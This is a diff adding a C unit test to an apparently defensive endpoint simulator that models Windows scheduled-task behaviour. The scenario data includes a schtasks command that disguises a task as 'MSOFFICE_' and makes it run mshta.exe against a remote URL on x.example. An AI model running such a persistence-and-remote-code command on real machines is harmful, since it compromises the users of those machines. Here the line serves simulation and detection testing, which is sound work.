@@ -1040,6 +1040,55 @@ static void test_sim_logon_step_fires_logon_tasks(void **state)
     tl_free(j);
 }
 
+/* A trigger step runs the task as the Schedule service does when its trigger
+ * comes due; on Windows 7 under a taskeng.exe per user and run level. */
+static void test_sim_trigger_step_and_win7_taskeng(void **state)
+{
+    (void)state;
+    run r;
+    assert_true(run_steps(&r,
+                          "[{\"at\":0,\"user\":\"bob\",\"command\":\"schtasks /create /sc MINUTE "
+                          "/MO 60 /TN MSOFFICE_ /TR \\\"mshta.exe https://x.example/i.txt\\\" /F\"},"
+                          "{\"at\":3600,\"trigger\":\"MSOFFICE_\"},"
+                          "{\"at\":7200,\"trigger\":\"\\\\MSOFFICE_\"}]",
+                          ",\"os_build\":\"6.1.7601\"", NULL));
+    const tl_proc *eng = proc_named(&r, "taskeng.exe");
+    assert_non_null(eng);
+    assert_true(r.sim->procs[eng->parent].pid == r.sim->procs[r.sim->schedule_svc].pid);
+    assert_string_equal(r.sim->procs[r.sim->schedule_svc].cmdline,
+                        "C:\\Windows\\system32\\svchost.exe -k netsvcs");
+    assert_non_null(strstr(eng->cmdline, ":DESKTOP-4E0BQFT\\bob:Interactive:LUA[1]"));
+    int runs = 0, engines = 0;
+    for (size_t i = 0; i < r.sim->nprocs; i++) {
+        const tl_proc *p = &r.sim->procs[i];
+        if (strstr(p->image, "mshta.exe")) {
+            runs++;
+            assert_true(&r.sim->procs[p->parent] == eng);
+            assert_string_equal(p->cmdline, "mshta.exe https://x.example/i.txt");
+            assert_int_equal(p->integrity, 1);
+        }
+        engines += strstr(p->image, "taskeng.exe") != NULL;
+    }
+    assert_int_equal(runs, 2);    /* both triggers */
+    assert_int_equal(engines, 1); /* one engine for bob at Medium */
+    run_free(&r);
+
+    /* a task that never existed is the scenario's mistake; a deleted one runs nothing */
+    assert_false(run_steps(&r, "[{\"at\":0,\"trigger\":\"nope\"}]", NULL, NULL));
+    char m[2048];
+    tl_diag_format(&r.d, m, sizeof m);
+    assert_non_null(strstr(m, "$.steps[0].trigger: no task \"nope\" on the endpoint"));
+    run_free(&r);
+    assert_true(run_steps(&r,
+                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
+                          "/create /tn gone /tr calc.exe /sc daily /st 09:00 /f\"},"
+                          "{\"at\":1,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
+                          "/delete /tn gone /f\"},{\"at\":2,\"trigger\":\"gone\"}]",
+                          NULL, NULL));
+    assert_null(proc_named(&r, "calc.exe"));
+    run_free(&r);
+}
+
 static void test_sim_ghosttask_registry_only(void **state)
 {
     (void)state;
@@ -1422,6 +1471,7 @@ int main(void)
         cmocka_unit_test(test_sim_lokibot_silentcleanup_runs_elevated),
         cmocka_unit_test(test_sim_shell_open_and_run_level),
         cmocka_unit_test(test_sim_logon_step_fires_logon_tasks),
+        cmocka_unit_test(test_sim_trigger_step_and_win7_taskeng),
         cmocka_unit_test(test_sim_powershell_unknown_switch_and_member),
         cmocka_unit_test(test_sim_ghosttask_registry_only),
         cmocka_unit_test(test_sim_security_and_taskscheduler_channels),
